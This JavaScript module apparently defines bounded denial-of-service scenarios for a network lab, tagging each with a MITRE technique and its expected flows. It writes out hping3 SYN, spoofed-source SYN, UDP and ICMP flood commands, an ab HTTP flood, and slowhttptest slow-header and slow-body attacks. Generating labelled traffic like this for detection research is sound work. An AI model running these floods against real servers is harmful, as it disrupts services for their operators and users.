/** Floods, bounded in count and rate, and what uses up a server slowly; for what an attack has see probes.mjs. */
const TCP = 6;
const UDP = 17;
const ICMP = 1;

const flood = (name, what, victim, { technique = 'T1498.001', ...more }) => ({
  name,
  what,
  tool: 'hping3',
  family: 'flood',
  technique,
  victims: (c) => [c.ip(victim)],
  ...more,
});

export const FLOODS = [
  flood('flood-syn', 'SYNs to a web server', 'web', {
    line: (c) => `hping3 -q -S -p 80 -c ${c.n(8000, 900)} -i u1500 ${c.ip('web')}`,
    flows: (c) => [{ from: c.attacker, to: c.ip('web'), protocol: TCP, port: 80 }],
  }),
  flood('flood-syn-spoofed', 'SYNs from addresses that are not the sender’s', 'web', {
    line: (c) => `hping3 -q -S -p 443 --rand-source -c ${c.n(6000, 700)} -i u1500 ${c.ip('web')}`,
    flows: (c) => [
      { from: null, to: c.ip('web'), protocol: TCP, port: 443, notFrom: c.prefix },
      { from: c.ip('web'), to: null, protocol: TCP, port: null, notTo: c.prefix, isEffect: true },
    ],
    isSpoofed: true,
  }),
  flood('flood-udp', 'datagrams to one port', 'dns', {
    line: (c) => `hping3 -q --udp -p 53 -d 120 -c ${c.n(6000, 800)} -i u1500 ${c.ip('dns')}`,
    flows: (c) => [{ from: c.attacker, to: c.ip('dns'), protocol: UDP, port: 53 }],
  }),
  flood('flood-icmp', 'echoes', 'files', {
    line: (c) => `hping3 -q --icmp -d 400 -c ${c.n(6000, 1500)} -i u1500 ${c.ip('files')}`,
    flows: (c) => [{ from: c.attacker, to: c.ip('files'), protocol: ICMP, port: null }],
  }),
  flood('flood-http', 'requests for pages, a connection each', 'web', {
    tool: 'ab',
    technique: 'T1499.002',
    line: (c) => `ab -q -r -n ${c.n(2500, 400)} -c 25 http://${c.ip('web')}/3000`,
    flows: (c) => [{ from: c.attacker, to: c.ip('web'), protocol: TCP, port: 80 }],
  }),
  flood('slow-headers', 'many requests whose headers never end', 'web', {
    tool: 'slowhttptest',
    technique: 'T1499.002',
    line: (c) => `slowhttptest -H -c ${c.n(250, 100)} -r 40 -i 4 -l 22 -x 12 -p 3 -u http://${c.ip('web')}/`,
    flows: (c) => [{ from: c.attacker, to: c.ip('web'), protocol: TCP, port: 80 }],
  }),
  flood('slow-bodies', 'many requests whose bodies come by a few bytes', 'web', {
    tool: 'slowhttptest',
    technique: 'T1499.002',
    line: (c) =>
      `slowhttptest -B -c ${c.n(250, 100)} -r 40 -i 4 -l 22 -s 8192 -x 12 -p 3 -u http://${c.ip('web')}/app/login`,
    flows: (c) => [{ from: c.attacker, to: c.ip('web'), protocol: TCP, port: 80 }],
  }),
];
